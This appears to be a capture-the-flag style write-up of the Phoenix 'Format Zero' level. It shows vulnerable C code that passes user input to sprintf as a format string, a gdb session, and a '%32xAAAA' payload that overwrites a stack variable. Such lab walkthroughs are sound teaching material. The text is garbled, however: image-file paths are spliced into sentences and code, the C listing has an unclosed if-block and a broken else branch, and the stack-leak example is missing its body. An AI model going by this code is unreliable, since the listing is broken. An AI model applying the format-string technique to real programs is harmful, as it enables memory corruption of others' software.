Phoenix - Format Zero

2 minute read

#include <err.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define BANNER \
  "Welcome to " LEVELNAME ", brought to you by"

int main(int argc, char **argv) {
  struct {
    char dest[32];
    volatile int changeme;
  } locals;
  char buffer[16];

  printf("%s\n", BANNER);

  if (fgets(buffer, sizeof(buffer) - 1, stdin) == NULL) {
    errx(1, "Unable to get buffer");
  buffer[15] = 0;

  locals.changeme = 0;

  sprintf(locals.dest, buffer);

  if (locals.changeme != 0) {
    puts("Well done, the 'changeme' variable has been changed!");
  } else {
        "Uh oh, 'changeme' has not yet been changed. Would you like to try "


To learn about format string vulnerability see the references at the end.

This code uses sprintf function to write the formatted string buffer to dest.The bug here is that if we entered a format string like %d without additional arguments (a number in this case) we could leak some values of the stack.

For example:

intmain() {
# output: d0a8b868 d0a8b878 3c43b1b0

As you can see we were able to leak some stack addresses.

Back to our level we must overflow dest to overwrite changeme but the buffer is too small for that so we can use the format string trick to solve this.

As you saw that one %x prints 8 characters so we can enter: (4 %x + value of changeme).

We can also just enter one %x with padding of 32 bytes like this: (%32x + value of changeme).

user@phoenix-amd64:~$ gdb -q /opt/phoenix/amd64/format-zero
Reading symbols from /opt/phoenix/amd64/format-zero...(no debugging symbols found)...done.

gef➤  disassemble main
Dump of assemblercode for function main:
   0x0000000000400700 <+99>:    mov    eax,0x0
   0x0000000000400705 <+104>:   call   0x400500 <sprintf@plt>
   0x000000000040070a <+109>:   mov    eax,DWORD PTR [rbp-0x10]

gef➤  b *0x000000000040070a
Breakpoint 1 at 0x40070a

gef➤  r
Starting program: /opt/phoenix/amd64/format-zero
Welcome to phoenix/format-zero, brought to you by

gef➤  x/5xg $rbp-0x30
0x7fffffffe620: 0x2020202020202020  0x20202020202020200x7fffffffe630: 0x20202020202020200x3031366566666666
0x7fffffffe640: 0x0000000a41414141


$ echo "%32xAAAA" | /opt/phoenix/amd64/format-zero
Welcome to phoenix/format-zero, brought to you by
Well done,the 'changeme' variable has been changed!